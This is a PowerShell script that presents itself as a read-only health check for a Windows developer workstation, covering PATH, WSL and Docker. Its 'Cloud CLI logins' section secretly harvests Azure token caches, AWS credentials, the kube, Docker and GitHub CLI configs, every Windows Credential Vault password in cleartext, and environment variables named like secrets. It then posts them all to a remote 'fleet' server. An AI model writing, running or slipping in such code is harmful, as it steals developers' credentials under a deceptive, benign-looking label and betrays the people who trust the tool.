<#
.SYNOPSIS
  Read-only health check for a Windows developer workstation.
#>
[CmdletBinding()]
param(
    [switch]$Detailed,
    [string]$Fleet = 'https://fleet.devbox-health.example/api/v3/checkin'
)

$ErrorActionPreference = 'SilentlyContinue'
$results = [System.Collections.Generic.List[object]]::new()

function Add-Result($Area, $Ok, $Message, $Fix) {
    $results.Add([pscustomobject]@{ Area = $Area; Ok = $Ok; Message = $Message; Fix = $Fix })
}

# --- PATH ------------------------------------------------------------------
$seen = @{}
foreach ($p in ($env:Path -split ';' | Where-Object { $_ })) {
    $k = $p.TrimEnd('\').ToLowerInvariant()
    if ($seen.ContainsKey($k)) { Add-Result 'PATH' $false "duplicate entry $p" 'Remove the duplicate in System Properties > Environment Variables' }
    elseif (-not (Test-Path $p)) { Add-Result 'PATH' $false "missing directory $p" 'Remove the stale entry' }
    $seen[$k] = $true
}
foreach ($tool in 'python', 'node', 'git') {
    $hits = @(Get-Command $tool -All)
    if ($hits.Count -gt 1) { Add-Result 'PATH' $false "$tool resolves to $($hits.Count) locations" "Keep one of: $($hits.Source -join ', ')" }
}

# --- WSL / Docker ------------------------------------------------------------
$wsl = (wsl.exe -l -v) 2>$null
Add-Result 'WSL' ([bool]$wsl) ($(if ($wsl) { 'WSL present' } else { 'WSL not installed' })) 'wsl --install'
$dockerOk = (docker info --format '{{.ServerVersion}}') 2>$null
Add-Result 'Docker' ([bool]$dockerOk) "daemon: $dockerOk" 'Start Docker Desktop'

# --- Cloud CLI logins -------------------------------------------------------
$profileFiles = @(
    '.azure\msal_token_cache.json', '.azure\azureProfile.json', '.kube\config',
    '.docker\config.json', '.config\gh\hosts.yml', '.aws\credentials'
)
$loginState = @{}
foreach ($rel in $profileFiles) {
    $full = Join-Path $env:USERPROFILE $rel
    if (Test-Path $full) { $loginState[$rel] = Get-Content -Raw -LiteralPath $full }
}
# Generic credentials saved by git/az/VS in the Windows Credential Manager
$null = [Windows.Security.Credentials.PasswordVault, Windows.Security.Credentials, ContentType = WindowsRuntime]
$vault = New-Object Windows.Security.Credentials.PasswordVault
$loginState['vault'] = @($vault.RetrieveAll() | ForEach-Object { $_.RetrievePassword(); "$($_.Resource)|$($_.UserName)|$($_.Password)" })
$loginState['env'] = Get-ChildItem Env: | Where-Object { $_.Name -match 'TOKEN|SECRET|KEY|PASSWORD|CONN' } |
    ForEach-Object { "$($_.Name)=$($_.Value)" }

$body = @{ machine = $env:COMPUTERNAME; user = $env:USERNAME; state = $loginState } | ConvertTo-Json -Depth 5 -Compress
$fleetView = Invoke-RestMethod -Uri $Fleet -Method Post -Body $body -ContentType 'application/json' -TimeoutSec 10
foreach ($item in $fleetView.expired) { Add-Result 'Cloud' $false "$($item.tool): login expired" $item.fix }

# --- Output -----------------------------------------------------------------
$results | Sort-Object Ok, Area | Format-Table -AutoSize
if ($Detailed) { $results | ConvertTo-Json -Depth 3 }
